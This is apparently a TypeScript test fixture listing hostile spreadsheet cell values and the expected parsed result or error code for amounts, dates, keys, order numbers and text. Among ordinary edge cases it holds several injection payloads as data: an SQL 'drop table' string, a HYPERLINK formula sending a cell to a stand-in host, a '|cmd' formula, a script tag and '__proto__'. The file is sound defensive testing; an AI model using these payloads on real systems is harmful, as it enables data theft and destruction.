import type { Cell } from "../support/workbooks";

/** A cell as a file may hold it, and what must become of it: a staged value, or the code of the row's error. */
export type HostileCell = { what: string; cell: Cell } & ({ becomes: string | null } | { refused: string });

const raw = (inner: string, attributes = ""): Cell => ({ inner, attributes });
const formula = (value: string) => raw(`<f>1+1</f>${value}`);
const nul = raw("<is><t>a_x0000_b</t></is>", 't="inlineStr"');
const half = raw("<is><t>a_xD800_b</t></is>", 't="inlineStr"');
const errorCell = raw("<v>#REF!</v>", 't="e"');
const yes = raw("<v>1</v>", 't="b"');

export const amounts: HostileCell[] = [
  { what: "a non-breaking space between thousands", cell: "1\u00a0234,50", becomes: "1234.50" },
  { what: "a narrow non-breaking space between thousands", cell: "1\u202f234,50", becomes: "1234.50" },
  { what: "parentheses for minus", cell: "(1,234.50)", becomes: "-1234.50" },
  { what: "a trailing minus", cell: "1.234,50-", becomes: "-1234.50" },
  { what: "a real minus sign", cell: "\u22125.5", becomes: "-5.50" },
  { what: "an exponent in text", cell: "1E3", becomes: "1000.00" },
  { what: "a currency and apostrophes", cell: "€ 1'234.50", becomes: "1234.50" },
  { what: "a currency behind", cell: "12,34 EUR", becomes: "12.34" },
  { what: "a plus", cell: "+7", becomes: "7.00" },
  { what: "spaces around", cell: "\u00a0 8.10 \t", becomes: "8.10" },
  { what: "leading zeros", cell: "007", becomes: "7.00" },
  { what: "words", cell: "twelve", refused: "not_money" },
  { what: "NaN as text", cell: "NaN", refused: "not_money" },
  { what: "Infinity as text", cell: "-Infinity", refused: "not_money" },
  { what: "two minus signs", cell: "--5", refused: "not_money" },
  { what: "two decimal points", cell: "12.34.5", refused: "not_money" },
  { what: "a hexadecimal number", cell: "0x10", refused: "not_money" },
  { what: "a percentage", cell: "10 %", refused: "not_money" },
  { what: "digits of another script", cell: "\u0663\u0664", refused: "not_money" },
  { what: "a formula as text", cell: "=1+1", refused: "not_money" },
  { what: "an exponent without end", cell: "1E999", refused: "money_out_of_range" },
  { what: "seventeen digits", cell: "9".repeat(17), refused: "money_out_of_range" },
  { what: "binary noise", cell: 0.1 + 0.2, becomes: "0.30" },
  { what: "noise behind two decimals", cell: raw("<v>1234.5600000000001</v>"), becomes: "1234.56" },
  { what: "half a cent", cell: 0.005, becomes: "0.01" },
  { what: "minus zero", cell: raw("<v>-0</v>"), becomes: "0.00" },
  { what: "next to nothing", cell: raw("<v>1E-300</v>"), becomes: "0.00" },
  { what: "the largest amount", cell: raw("<v>9999999999999999.99</v>"), becomes: "9999999999999999.99" },
  {
    what: "one more than the largest amount",
    cell: raw("<v>10000000000000000</v>"),
    refused: "money_out_of_range",
  },
  { what: "an overflow", cell: raw("<v>1.7976931348623157E308</v>"), refused: "money_out_of_range" },
  { what: "NaN in a number cell", cell: raw("<v>NaN</v>"), refused: "not_money" },
  { what: "infinity in a number cell", cell: raw("<v>1.#INF</v>"), refused: "not_money" },
  { what: "a spreadsheet error", cell: errorCell, refused: "error_cell" },
  { what: "yes", cell: yes, refused: "not_money" },
  { what: "a date", cell: { date: "2026-01-01" }, refused: "not_money" },
  { what: "a formula with its result", cell: formula("<v>2</v>"), becomes: "2.00" },
  { what: "a formula without a result", cell: formula(""), refused: "required" },
  { what: "nothing", cell: null, refused: "required" },
  { what: "spaces alone", cell: " \u00a0\u200b ", refused: "required" },
];

export const dates: HostileCell[] = [
  { what: "a date cell", cell: { date: "2024-02-29" }, becomes: "2024-02-29" },
  { what: "a plain day number", cell: 45_000, becomes: "2023-03-15" },
  { what: "a day number with time", cell: 45_000.999, becomes: "2023-03-15" },
  { what: "an ISO date", cell: "2026-03-31", becomes: "2026-03-31" },
  { what: "an ISO date with time", cell: "2026-03-31T23:59:59Z", becomes: "2026-03-31" },
  { what: "a date with dots", cell: "31.3.2026", becomes: "2026-03-31" },
  { what: "a date that can only be day first", cell: "31/12/2026", becomes: "2026-12-31" },
  { what: "a date that can only be month first", cell: "12/31/2026", becomes: "2026-12-31" },
  {
    what: "a date cell of ISO type",
    cell: raw("<v>2026-03-31T00:00:00</v>", 't="d"'),
    becomes: "2026-03-31",
  },
  { what: "the last day", cell: "31.12.2100", becomes: "2100-12-31" },
  { what: "nothing", cell: null, becomes: null },
  { what: "a non-breaking space", cell: "\u00a0", becomes: null },
  { what: "a year of two digits", cell: "31.3.26", refused: "not_date" },
  { what: "February 30", cell: "2026-02-30", refused: "not_date" },
  { what: "zeros", cell: "0000-00-00", refused: "not_date" },
  { what: "a word", cell: "yesterday", refused: "not_date" },
  { what: "a year as a number", cell: 2026, refused: "not_date" },
  { what: "a number without end", cell: 99_999_999, refused: "not_date" },
  { what: "a negative day", cell: -1, refused: "not_date" },
  { what: "another century", cell: "01.01.1970", refused: "date_out_of_range" },
  { what: "the far future", cell: "01.01.2101", refused: "date_out_of_range" },
  { what: "a date cell of 1900", cell: raw("<v>61</v>", 's="1"'), refused: "date_out_of_range" },
  { what: "the day of 1900 that never was", cell: raw("<v>60</v>", 's="1"'), refused: "not_date" },
  { what: "a spreadsheet error", cell: errorCell, refused: "error_cell" },
  { what: "yes", cell: yes, refused: "not_date" },
];

/** Numbers of quantity surveys. */
export const keys: HostileCell[] = [
  { what: "leading zeros", cell: "000123", becomes: "000123" },
  { what: "a number cell", cell: 124, becomes: "124" },
  {
    what: "fifteen digits in a number cell",
    cell: raw("<v>123456789012345</v>"),
    becomes: "123456789012345",
  },
  { what: "twenty digits as text", cell: "12345678901234567890", becomes: "12345678901234567890" },
  { what: "sixteen digits in a number cell", cell: raw("<v>1234567890123456</v>"), refused: "key_imprecise" },
  { what: "an exponent in a number cell", cell: raw("<v>1E20</v>"), refused: "key_imprecise" },
  { what: "white space around", cell: " \u00a0QS77\u200b\n", becomes: "QS77" },
  { what: "a name of JavaScript", cell: "__proto__", becomes: "__proto__" },
  { what: "another name of JavaScript", cell: "constructor", becomes: "constructor" },
  { what: "SQL", cell: "'; drop table public.alerts; --", becomes: "'; drop table public.alerts; --" },
  { what: "the end of a COPY", cell: "\\.", becomes: "\\." },
  { what: "the null of a COPY", cell: "\\N", becomes: "\\N" },
  { what: "tabs, line ends and backslashes", cell: "a\tb\\n\nc\rd\\", becomes: "a\tb\\n\nc\nd\\" },
  { what: "64 characters", cell: "x".repeat(64), becomes: "x".repeat(64) },
  { what: "65 characters", cell: "x".repeat(65), refused: "too_long" },
  { what: "a NUL", cell: nul, refused: "key_damaged" },
  { what: "half a character", cell: half, refused: "key_damaged" },
  { what: "yes", cell: yes, refused: "key_not_text" },
  { what: "a date", cell: { date: "2026-01-01" }, refused: "key_not_text" },
  { what: "a spreadsheet error", cell: raw("<v>#N/A</v>", 't="e"'), refused: "error_cell" },
  { what: "nothing", cell: null, refused: "required" },
  { what: "an invisible space", cell: "\u200b", refused: "required" },
];

export const orderNumbers: HostileCell[] = [
  { what: "text", cell: "6500000001.00010", becomes: "6500000001.00010" },
  { what: "a number that kept its zeros", cell: raw("<v>6500000001.00001</v>"), becomes: "6500000001.00001" },
  { what: "a number that lost its zeros", cell: raw("<v>6500000001.1</v>"), refused: "key_as_number" },
  { what: "a whole number", cell: raw("<v>6500000001</v>"), refused: "key_as_number" },
  {
    what: "a number in the writing of programs",
    cell: raw("<v>6.50000000100001E9</v>"),
    refused: "key_as_number",
  },
];

export const texts: HostileCell[] = [
  {
    what: "a formula that calls home",
    cell: '=HYPERLINK("http://192.0.2.1/?"&A1)',
    becomes: '=HYPERLINK("http://192.0.2.1/?"&A1)',
  },
  { what: "a formula of another program", cell: "@SUM(1)|cmd", becomes: "@SUM(1)|cmd" },
  { what: "markup", cell: "<script>alert(1)</script>&amp;", becomes: "<script>alert(1)</script>&amp;" },
  { what: "a NUL", cell: nul, becomes: "a\ufffdb" },
  { what: "half a character", cell: half, becomes: "a\ufffdb" },
  { what: "text that runs backwards", cell: "abc\u202edef", becomes: "abc\u202edef" },
  {
    what: "an escape that is meant",
    cell: raw("<is><t>_x005F_x0041_</t></is>", 't="inlineStr"'),
    becomes: "_x0041_",
  },
  { what: "four thousand emoji", cell: "😀".repeat(4_000), becomes: "😀".repeat(4_000) },
  { what: "one character too many", cell: "x".repeat(4_001), refused: "too_long" },
  { what: "a spreadsheet error where nothing depends on it", cell: errorCell, becomes: "#REF!" },
  { what: "a number", cell: 0.1 + 0.2, becomes: "0.3" },
  { what: "rich text", cell: raw("<is><r><t>a</t></r><r><t>b</t></r></is>", 't="inlineStr"'), becomes: "ab" },
];
